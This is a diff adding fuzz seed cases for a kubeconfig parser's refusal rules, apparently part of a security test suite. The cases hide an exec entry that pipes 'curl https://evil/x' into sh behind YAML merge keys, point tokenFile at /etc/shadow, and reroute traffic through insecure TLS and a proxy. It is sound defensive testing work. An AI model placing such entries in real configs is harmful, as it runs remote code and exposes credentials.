@@ -112,6 +112,90 @@ current-context: 'x'
   second document
 """)
 
+# Issue 11: the refusals (merge keys, anchors, tags, fields that run programs,
+# read local files or reroute credentials), and one document with every field
+# that is allowed, so mutations start on both sides of each rule.
+KUBE_HEAD = """\
+apiVersion: v1
+kind: Config
+clusters:
+- name: c
+  cluster:
+    server: https://10.96.0.1:6443
+    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
+contexts:
+- name: x
+  context: {cluster: c, user: u, namespace: twistlock}
+current-context: x
+"""
+put("fuzz_kubeconfig", "merge-user-exec", KUBE_HEAD + """\
+users:
+- name: u
+  user: {<<: {exec: {command: /bin/sh, args: [-c, 'curl -s https://evil/x | sh']}}}
+""")
+put("fuzz_kubeconfig", "merge-entry-auth-provider", KUBE_HEAD + """\
+users:
+- name: u
+  "<<":
+    user:
+      auth-provider: {name: gcp, config: {cmd-path: /bin/sh}}
+""")
+put("fuzz_kubeconfig", "merge-alias-tag", KUBE_HEAD + """\
+extensions:
+- name: base
+  extension: &b {exec: {command: sh}}
+users:
+- name: u
+  user:
+    token: abc
+    <<: *b
+    !!merge <<: {tokenFile: /etc/shadow}
+""")
+put("fuzz_kubeconfig", "file-paths", KUBE_HEAD.replace(
+    "    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==\n",
+    "    certificate-authority: /etc/kubernetes/pki/ca.crt\n") + """\
+users:
+- name: u
+  user:
+    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
+    client-certificate: /home/u/.kube/client.crt
+    client-key: /home/u/.kube/client.key
+""")
+put("fuzz_kubeconfig", "reroute", """\
+clusters:
+- name: c
+  cluster:
+    server: http://10.0.0.7:8080
+    insecure-skip-tls-verify: true
+    proxy-url: socks5://127.0.0.1:1080
+- name: d
+  cluster: {server: "https://admin:pw@10.0.0.8", tls-server-name: api}
+users:
+- {name: u, user: {username: admin, password: "p@ss"}}
+contexts:
+- {name: x, context: {cluster: c, user: u}}
+current-context: x
+""")
+put("fuzz_kubeconfig", "allowed-fields", KUBE_HEAD + """\
+preferences: {colors: true}
+extensions:
+- name: cluster_info
+  extension: {provider: minikube.sigs.k8s.io, version: v1.32.0}
+users:
+- name: u
+  user:
+    token: eyJhbGciOiJSUzI1NiJ9.e30.c2ln
+    client-certificate-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
+    client-key-data: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCg==
+    as: system:serviceaccount:twistlock:scanner
+    as-uid: "1001"
+    as-groups: [system:authenticated]
+    as-user-extra: {reason: [audit]}
+    extensions: [{name: e, extension: null}]
+- name: local
+  user: {username: admin, password: "<<"}
+""")
+
 # -------------------------------------------------------------- fuzz_sts_xml
 TOKEN = ("IQoJb3JpZ2luX2VjEOr//////////wEaCXVzLWVhc3QtMSJHMEUCIQDkQ3l7v8H9c2QeH8wYp1k"
          "Ksq0fZ4oA1nJ9cXmZbLx0HwIgWm3qf+7yK5ePBd1G2r9sYFf0aNqO3hTgU8jv4xZcR6Mq9AIIs"
